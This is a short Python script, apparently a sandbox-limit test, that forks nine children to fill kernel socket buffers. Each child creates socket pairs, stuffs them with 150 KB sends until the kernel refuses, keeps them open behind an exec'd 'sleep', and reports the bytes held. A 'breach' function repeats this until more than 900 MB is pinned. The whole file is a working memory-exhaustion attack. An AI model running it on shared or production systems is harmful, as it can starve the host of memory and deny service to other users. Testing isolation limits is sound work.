import os
import socket
import time

BLOCK = bytes(150_000)
held = []


def fill(children):
    total = 0
    for _ in range(children):
        back, forth = os.pipe()
        child = os.fork()
        if not child:
            amount, links = 0, []
            try:
                while True:
                    for end in socket.socketpair():
                        end.setblocking(False)
                        os.set_inheritable(end.fileno(), True)
                        links.append(end)
                        amount += end.send(BLOCK)
            except OSError:
                pass
            links.pop().close()
            links.pop().close()
            os.write(forth, b"%d" % amount)
            os.close(forth)
            os.execv("/usr/bin/sleep", ["sleep", "40"])
        os.close(forth)
        with open(back) as reader:
            total += int(reader.read() or 0)
    return total


def breach():
    if sum(held) < 900_000_000 and len(held) < 4:
        held.append(fill(9))
    print("held", held)
    return sum(held) > 900_000_000


held.append(fill(9))
